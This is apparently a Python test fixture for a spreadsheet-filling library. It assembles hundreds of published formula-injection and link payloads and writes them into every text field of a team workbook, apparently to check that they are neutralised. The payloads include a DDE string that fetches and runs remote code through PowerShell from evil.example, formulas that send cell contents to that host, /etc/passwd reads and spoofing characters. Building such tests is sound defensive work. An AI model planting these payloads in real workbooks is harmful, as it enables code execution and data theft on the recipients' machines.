"""Published ways to make a spreadsheet calculate, call or link what somebody else wrote, and a workbook full of them."""

from __future__ import annotations

import itertools
from datetime import date
from pathlib import Path

from perfsheet.filling import fill
from perfsheet.forms import CHECKINS, GOALS, PEOPLE
from perfsheet.templates import template_bytes

STARTS = (
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\n=",
    "\r=",
    " =",
    "'=",
    '"=',
    "=-",
    "=+",
    "@=",
    "%0A=",
    "＝",
    "＋",
    "－",
    "＠",
    "{=",
    "=@",
    ";=",
    ",=",
    "|=",
)
CALLS = (
    "1+1",
    "cmd|' /C calc'!A0",
    "cmd|'/C powershell IEX(wget evil.example/x)'!A0",
    'DDE("cmd";"/C calc";"x")',
    "MSEXCEL|'\\..\\..\\cmd'!''",
    'HYPERLINK("http://evil.example?x="&A1,"Click")',
    'IMPORTXML("http://evil.example","//a")',
    'WEBSERVICE("http://evil.example")',
    'IMPORTDATA("http://evil.example")',
    'IMAGE("http://evil.example/x.png")',
    "'file:///etc/passwd'#$passwd.A1",
    "[evil.xlsx]Sheet1!A1",
    "'\\\\evil.example\\share\\[x.xlsx]S'!A1",
    'EXEC("calc")',
    'CALL("kernel32","WinExec","JCJ","calc",0)',
    'REGISTER("urlmon","x")',
    "SUM(1+1)*cmd|' /C calc'!A0",
    "rundll32|'URL.dll,OpenURL calc.exe'!A",
    'INDIRECT("A1")',
    "_xlfn.WEBSERVICE(A1)",
    "LAMBDA(x,x)(1)",
    "A1:A9}",
)
LINKS = (
    "http://evil.example", "https://evil.example", "ftp://evil.example", "mailto:x@evil.example", "internal:Sheet1!A1", "external:c:\\evil.xlsx",
    "file:///etc/passwd", "javascript:alert(1)", "data:text/html,x", "\\\\evil.example\\share", "www.evil.example", "#REF!", "#N/A", "TRUE", "1e999",
    "<script>alert(1)</script>", "]]><f>1</f>", "_x003D_1+1", "_x0000_", "&#61;1+1", "x\x1b]52;c;ZXZpbA==\x07", "abc\u202egpj.exe", "\u2066=1\u2069", "a\u200bb",
)  # fmt: skip
PAYLOADS = tuple(dict.fromkeys([*(f"{start}{call}" for start, call in itertools.product(STARTS, CALLS)), *LINKS]))
"""More than 500 texts: published ways to make a spreadsheet do something, and their spellings."""


def cleaned(text: str) -> str:
    """What reading makes of a text in a cell: trimmed, line ends alike."""
    return text.replace("\r\n", "\n").replace("\r", "\n").strip()


def write_team(path: Path) -> None:
    """A team's workbook with a payload in every title, note, name and setting that takes text."""
    goals = [
        {"goal_id": f"G{n}", "goal": text, "owners": ("Ada Bell",), "kind": "Increase", "measure": text, "baseline": 0, "target": 9}
        for n, text in enumerate(PAYLOADS)
    ]  # fmt: skip
    people = [
        {"person": "Ada Bell"},
        *({"person": f"P{n} {text}", "email": text, "group": text} for n, text in enumerate(PAYLOADS[::5])),
    ]
    log = [
        {"day": date(2026, 1, 9), "goal_id": f"G{n}", "value": 3, "note": text, "blocker": text}
        for n, text in enumerate(PAYLOADS)
    ]
    settings = {
        "organisation": "=1+1", "team": "@SUM(1)", "manager": "=cmd|' /C calc'!A0", "period": "-2026 Q1", "period_start": date(2026, 1, 1),
        "period_end": date(2026, 3, 31),
    }  # fmt: skip
    path.write_bytes(fill(template_bytes("team"), {PEOPLE: people, GOALS: goals, CHECKINS: log}, settings))
